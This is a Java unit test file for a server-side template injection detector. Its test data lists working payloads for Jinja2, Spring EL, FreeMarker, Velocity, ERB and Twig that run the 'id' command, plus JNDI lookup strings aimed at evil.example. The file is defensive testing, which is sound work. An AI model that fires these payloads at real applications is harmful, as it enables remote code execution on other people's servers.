package io.bulwark.inspect;

import static io.bulwark.inspect.Values.findings;
import static io.bulwark.inspect.Values.level;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SstiDetectorTest {
    private final SstiDetector detector = new SstiDetector();

    @Test
    void reports_category_and_evidence() {
        assertThat(findings(detector, "{{config.__class__.__init__.__globals__}}"))
                .singleElement()
                .satisfies(f -> {
                    assertThat(f.category()).isEqualTo(Category.SSTI);
                    assertThat(f.paranoia()).isEqualTo(1);
                    assertThat(f.evidence()).startsWith("{{config");
                });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{config.__class__}}",
                "{{''.__class__.__mro__[1].__subclasses__()}}",
                "{{ self.__init__.__globals__.__builtins__ }}",
                "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
                "{{lipsum.__globals__.os.popen('id').read()}}",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "*{T(java.lang.Runtime).getRuntime().exec('id')}",
                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
                "#set($x=$class.inspect(\"java.lang.Runtime\"))",
                "<%= system('id') %>",
                "<%= `id` %>",
                "#{T(java.lang.System).getenv()}",
                "${\"\".getClass().forName(\"java.lang.Runtime\")}",
                "{% import os %}{{ os.popen('id').read() }}",
                "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
                "%7B%7Bconfig.__class__%7D%7D",
            })
    void flags_template_code_at_level_one(String payload) {
        assertThat(level(detector, payload)).as(payload).isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "${ 1 + 1 }", "#set($a = 1)"})
    void flags_arithmetic_probes_at_level_two(String payload) {
        assertThat(level(detector, payload)).as(payload).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{name}}",
                "Hello {{ user.name }}!",
                "${price}",
                "Total: ${amount} USD",
                "${jndi:ldap://evil.example/a}",
                "${env:HOME}",
                "${${lower:j}ndi:ldap://x/a}",
                "#{id}",
                "price is $7*7",
                "{7*7}",
                "7*7=49",
                "a {b} c",
                "I love my cat; she sleeps all day",
                "Configuration: self-service",
                "{{ }}",
            })
    void does_not_flag_placeholders_or_lookups_at_level_one(String value) {
        assertThat(level(detector, value)).as(value).isGreaterThan(1);
    }

    @Test
    void leaves_jndi_lookups_to_the_jndi_detector() {
        assertThat(findings(detector, "${jndi:ldap://evil.example/a}")).isEmpty();
    }

    @Test
    @Timeout(value = 60, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void stays_linear_on_deeply_repeated_openers() {
        assertBounded("${".repeat(1 << 19));
        assertBounded("{{".repeat(1 << 19));
        assertBounded("{{".repeat(1 << 18) + "}}".repeat(1 << 18));
        assertBounded("<%".repeat(1 << 19));
        assertBounded("{%".repeat(1 << 19));
        assertBounded("<#assign ".repeat(1 << 16));
        assertBounded("#set(".repeat(1 << 17));
        assertBounded("${a".repeat(1 << 18) + "}");
    }

    private void assertBounded(String value) {
        long start = System.nanoTime();
        detector.inspect(new InspectedValue(value, List.of(value), Values.LOCATION, false), f -> {});
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(5));
    }
}
